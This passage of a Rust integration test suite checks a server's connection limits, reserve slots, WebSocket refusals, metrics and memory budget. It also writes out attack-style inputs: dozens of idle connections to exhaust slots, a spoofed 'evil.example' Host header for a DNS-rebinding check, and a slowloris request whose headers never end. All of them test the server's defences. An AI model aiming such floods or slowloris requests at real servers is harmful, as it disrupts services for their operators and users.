    assert_eq!(crate::common::close_code(&mut ws).await, Some(1009));
    drop(ws);
    // Idle connections hold slots until the header timeout closes them. Past the limit, a
    // reserve still takes SQL and health checks but refuses agents; past the reserve, nothing
    // from other machines gets in, while loopback clients (the operator's own tools) still do.
    let port = s.addr.rsplit(':').next().unwrap().to_string();
    let other = format!("{}:{port}", network_address());
    let health = || async {
        let (st, _, body) = crate::common::request(&other, "GET", "/healthz", None, Vec::new())
            .await
            .unwrap();
        (st, String::from_utf8_lossy(&body).to_string())
    };
    let mut idle = Vec::new();
    for _ in 0..8 {
        idle.push(tokio::net::TcpStream::connect(&other).await.unwrap());
    }
    tokio::time::sleep(Duration::from_millis(200)).await;
    assert_eq!(health().await.0, 200, "the reserve takes health checks");
    let (st, _, body) = crate::common::request(
        &other,
        "POST",
        "/v1/ingest/m",
        Some("application/json"),
        br#"{"host":"a","v":1}"#.to_vec(),
    )
    .await
    .unwrap();
    let body = String::from_utf8_lossy(&body);
    assert_eq!(st, 503, "{body}");
    assert!(
        body.contains("agents (ingest and WebSockets) are refused"),
        "{body}"
    );
    let refused = tokio_tungstenite::connect_async(format!("ws://{other}/v1/ingest/m")).await;
    match refused {
        Err(tungstenite::Error::Http(r)) => assert_eq!(r.status(), 503),
        other => panic!("a WebSocket on the reserve: {other:?}"),
    }
    for _ in 0..64 {
        idle.push(tokio::net::TcpStream::connect(&other).await.unwrap());
    }
    tokio::time::sleep(Duration::from_millis(200)).await;
    let (st, body) = health().await;
    assert_eq!(st, 503, "{body}");
    assert!(body.contains("--max-connections"), "{body}");
    assert_eq!(s.get("/healthz").await.unwrap().0, 200, "loopback reserve");
    assert!(
        s.log().contains("refused a connection from"),
        "refusals are logged:\n{}",
        s.log()
    );
    // The idle ones are closed after the header timeout: every slot is free again.
    eventually(10, "slots free again", || async {
        let metrics = String::from_utf8(s.get("/metrics").await.ok()?.1).ok()?;
        let open: u64 = metrics
            .lines()
            .find_map(|l| l.strip_prefix("tocsin_connections_open "))?
            .parse()
            .ok()?;
        (open <= 1).then_some(())
    })
    .await;
    drop(idle);
    // A WebSocket holds its slot for as long as it is open: eight fill the eight, and SQL still
    // answers, over HTTP and the PostgreSQL protocol.
    let mut sockets = Vec::new();
    for _ in 0..8 {
        let (ws, _) = tokio_tungstenite::connect_async(format!("ws://{other}/v1/ingest/m"))
            .await
            .unwrap();
        sockets.push(ws);
    }
    let ninth = tokio_tungstenite::connect_async(format!("ws://{other}/v1/ingest/m")).await;
    assert!(
        matches!(&ninth, Err(tungstenite::Error::Http(r)) if r.status() == 503),
        "a ninth agent is refused: {ninth:?}"
    );
    let (st, _, body) = crate::common::request(
        &other,
        "POST",
        "/v1/sql",
        Some("text/plain"),
        b"SELECT count(*) AS n FROM m".to_vec(),
    )
    .await
    .unwrap();
    assert_eq!(st, 200, "{}", String::from_utf8_lossy(&body));
    let (client, conn) = tokio_postgres::connect(
        &format!("host=127.0.0.1 port={port} user=tocsin dbname=tocsin"),
        tokio_postgres::NoTls,
    )
    .await
    .expect("pg on the reserve");
    tokio::spawn(conn);
    let rows = client.simple_query("SELECT 1 AS one").await.unwrap();
    assert!(!rows.is_empty());
    drop(client);
    let metrics = String::from_utf8(s.get("/metrics").await.unwrap().1).unwrap();
    let open: u64 = metrics
        .lines()
        .find_map(|l| l.strip_prefix("tocsin_connections_open "))
        .unwrap()
        .parse()
        .unwrap();
    assert!(open >= 8, "{open}");
    let refusals: u64 = metrics
        .lines()
        .find_map(|l| l.strip_prefix("tocsin_refused_total{reason=\"connection_limit\"} "))
        .unwrap()
        .parse()
        .unwrap();
    assert!(refusals >= 4, "{refusals}");
    drop(sockets);
    eventually(10, "WebSocket slots freed", || async {
        let ws = tokio_tungstenite::connect_async(format!("ws://{other}/v1/ingest/m"))
            .await
            .ok()?;
        drop(ws);
        Some(())
    })
    .await;
    // DNS rebinding on a server listening on every address: a browser on this machine (a
    // loopback peer) is held to the Host check; other machines are not.
    let evil = [("host", "evil.example:7654")];
    assert_eq!(get(&s, "/healthz", &evil).await, 403);
    let (st, _, _) = request_with(&other, "GET", "/healthz", &evil, Vec::new())
        .await
        .unwrap();
    assert_eq!(st, 200);
    // Slowloris: headers that never end.
    let mut slow = tokio::net::TcpStream::connect(&s.addr).await.unwrap();
    slow.write_all(b"GET /healthz HTTP/1.1\r\nHost: 127.0.0.1\r\n")
        .await
        .unwrap();
    let mut buf = [0u8; 64];
    let n = tokio::time::timeout(Duration::from_secs(5), slow.read(&mut buf))
        .await
        .expect("the server hangs up on a slow client");
    assert!(
        matches!(n, Ok(0) | Err(_)) || buf.starts_with(b"HTTP/1.1 408"),
        "{n:?}"
    );
    let metrics = String::from_utf8(s.get("/metrics").await.unwrap().1).unwrap();
    for reason in [
        "body_too_large",
        "sql_too_long",
        "frame_too_large",
        "connection_limit",
        "header_timeout",
    ] {
        let line = metrics
            .lines()
            .find(|l| l.starts_with(&format!("tocsin_refused_total{{reason=\"{reason}\"}}")))
            .unwrap_or_else(|| panic!("no {reason} in {metrics}"));
        let n: u64 = line.rsplit(' ').next().unwrap().parse().unwrap();
        assert!(n > 0, "{line}");
    }
    assert!(metrics.contains("tocsin_limit{limit=\"max_connections\"} 8"));
}

/// `--memory-limit`: a source filled past the budget refuses more with 507 naming it, the server
/// keeps answering, and after kill -9 it serves every row it acknowledged; a start with a budget
/// smaller than the write-ahead log skips the oldest segments instead of failing.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn memory_budget() {
    let dir = tempfile::tempdir().unwrap();
    let limit = ["--memory-limit", "160MiB"];
    let s = Server::start(&dir.path().join("data"), &limit).await;
    s.rows("CREATE SOURCE m (host TEXT, v DOUBLE) FROM HTTP WITH (retain = '1 hour')")
        .await;
    let batch: String = (0..20_000)
        .map(|i| format!("{{\"host\":\"host-{}\",\"v\":{i}}}\n", i % 500))
        .collect();
    let mut acked = 0u64;
    let mut refusal = None;
    for _ in 0..500 {
        let (st, v) = s
            .ingest("m", "application/x-ndjson", batch.as_bytes().to_vec())
            .await;
        match st {
            200 => acked += v["accepted"].as_u64().unwrap(),
            507 => {
                refusal = Some(v);
                break;
            }
            other => panic!("{other}: {v}"),
        }
    }
    let refusal = refusal.expect("the budget was never reached");
    let message = refusal["error"]["message"].as_str().unwrap();
    assert!(
        message.contains("memory limit") && message.contains("\"m\" retains"),
        "{message}"
    );
    assert!(acked > 0);
    // Still serving queries, and counting what it holds.
    let rows = s.rows("SELECT count(*) AS n FROM m").await;
    assert_eq!(rows[0][0].as_u64(), Some(acked));
    let metrics = String::from_utf8(s.get("/metrics").await.unwrap().1).unwrap();
    assert!(
        metrics.contains(&format!(
            "tocsin_source_retained_rows{{source=\"m\"}} {acked}"
        )),
        "{metrics}"
    );
    assert!(metrics.contains(&format!("tocsin_memory_limit_bytes {}", 160u64 << 20)));
    let data = s.kill();
    let s = Server::start(&data, &limit).await;
    let rows = s.rows("SELECT count(*) AS n FROM m").await;
    assert_eq!(
        rows[0][0].as_u64(),
        Some(acked),
        "acknowledged rows after kill -9"
    );
    let data = s.kill();
    // A budget far below what the log holds: the server starts, with the newest rows that fit.
    let s = Server::start(&data, &["--memory-limit", "1MiB"]).await;
    let rows = s.rows("SELECT count(*) AS n FROM m").await;
    assert!(rows[0][0].as_u64().unwrap() < acked);
    assert!(
        s.log().contains("left unread so that the newest rows fit"),
        "{}",
        s.log()
    );
    let (st, _) = s
        .ingest("m", "application/x-ndjson", batch.as_bytes().to_vec())
        .await;
    assert_eq!(st, 507);
}
